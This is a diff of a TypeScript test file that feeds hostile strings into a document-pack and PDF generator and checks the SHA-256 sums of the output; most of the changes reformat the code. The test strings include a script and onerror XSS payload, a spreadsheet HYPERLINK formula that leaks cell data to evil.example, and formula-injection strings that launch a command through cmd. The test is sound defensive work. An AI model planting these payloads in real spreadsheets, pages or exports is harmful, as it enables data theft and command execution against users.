@@ -22,9 +22,9 @@ const LONG = 'Lorem ipsum dolor sit amet, ação niño Αθήνα Москва. 
 const HOSTILE_TEXTS = [
   '<script>alert(1)</script><img src=x onerror=alert(2)>',
   '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
-  '+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
-  '-2+3+cmd|\' /C calc\'!A0',
+  "+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
   ')\\( BT /F1 12 Tf (x) Tj ET endstream endobj %%EOF',
   'שלום עולם and مرحبا بالعالم mixed with English',
   'emoji 😀🦊👩‍👩‍👧🇧🇷 and 中文 and 한국어',
@@ -46,7 +46,11 @@ function hostileDocument(): PackDocument {
     footer: HOSTILE_TEXTS[0],
     pageLabel: 'Página {page} de {pages}',
     sections: [
-      { id: 'summary', heading: HOSTILE_TEXTS[0] ?? '', blocks: HOSTILE_TEXTS.map((text) => ({ kind: 'paragraph', text })) },
+      {
+        id: 'summary',
+        heading: HOSTILE_TEXTS[0] ?? '',
+        blocks: HOSTILE_TEXTS.map((text) => ({ kind: 'paragraph', text })),
+      },
       {
         id: 'payments',
         heading: 'Pagos',
@@ -57,7 +61,10 @@ function hostileDocument(): PackDocument {
             rows: PAYMENT_ROWS.map((row) => row.map(String)),
             totals: [['Total', '-60.5', 'EUR', '', '']],
           },
-          { kind: 'hashes', items: HOSTILE_TEXTS.slice(0, 3).map((label) => ({ label, sha256: 'f'.repeat(64) })) },
+          {
+            kind: 'hashes',
+            items: HOSTILE_TEXTS.slice(0, 3).map((label) => ({ label, sha256: 'f'.repeat(64) })),
+          },
           { kind: 'list', items: HOSTILE_TEXTS },
         ],
       },
@@ -102,7 +109,10 @@ describe('a hostile case', () => {
       mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
       writeFileSync(path.join(dir, name), bytes);
     }
-    const report = execFileSync('sha256sum', ['--check', '--strict', 'SHA256SUMS'], { cwd: dir, encoding: 'utf8' });
+    const report = execFileSync('sha256sum', ['--check', '--strict', 'SHA256SUMS'], {
+      cwd: dir,
+      encoding: 'utf8',
+    });
     expect(report.trim().split('\n')).toHaveLength(12);
     execFileSync('sha256sum', ['--check', '--strict', 'pack.pdf.sha256'], { cwd: dir });
   });
